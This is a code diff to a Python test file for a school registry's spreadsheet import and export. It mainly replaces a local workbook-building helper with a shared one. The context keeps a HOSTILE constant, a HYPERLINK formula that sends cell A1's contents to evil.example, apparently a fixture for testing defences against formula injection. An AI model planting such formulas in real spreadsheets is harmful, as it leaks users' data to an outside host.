@@ -13,12 +13,12 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from openpyxl import Workbook, load_workbook
+from openpyxl import load_workbook
 
 from services.registry.columns import COLUMNS, Base
 from services.registry.imports import MAX_STORED_PROBLEMS
 from tests.conftest import World
-from tests.test_import_export import upload
+from tests.test_import_export import upload, workbook
 from tests.test_spreadsheet_rules import NUMBERED_ROW, SHEET_ROW, bomb
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
@@ -83,21 +83,6 @@ TYPED: dict[Base, list[dict[str, Any]]] = {
 }
 
 
-def typed_file(base: Base, rows: list[dict[str, Any]]) -> bytes:
-    """A base as a coordinator keeps it: a merged title above the header, dates typed as text."""
-    book = Workbook()
-    sheet = book.active
-    assert sheet is not None
-    sheet.append(["База наставляемых МБОУ «СОШ № 1»"])
-    sheet.merge_cells("A1:F1")
-    sheet.append(list(COLUMNS[base]))
-    for row in rows:
-        sheet.append([row.get(column) for column in COLUMNS[base]])
-    buffer = io.BytesIO()
-    book.save(buffer)
-    return buffer.getvalue()
-
-
 async def exported(world: World, school: str, base: Base) -> bytes:
     coordinator = world.coordinator(school)
     await world.api.caught_up(coordinator)
@@ -116,7 +101,9 @@ def values_of(content: bytes) -> list[tuple[Any, ...]]:
 async def test_export_import_into_another_school_export_again_gives_the_same_file(
     world: World, base: Base
 ) -> None:
-    typed = await upload(world, typed_file(base, TYPED[base]), str(base), "s1")
+    # As a coordinator keeps it: a merged title above the header, dates typed as text.
+    typed_file = workbook(TYPED[base], base, "База МБОУ «СОШ № 1»")
+    typed = await upload(world, typed_file, str(base), "s1")
     first = await exported(world, "s1", base)
     again = await upload(world, first, str(base), "s2")
     second = await exported(world, "s2", base)
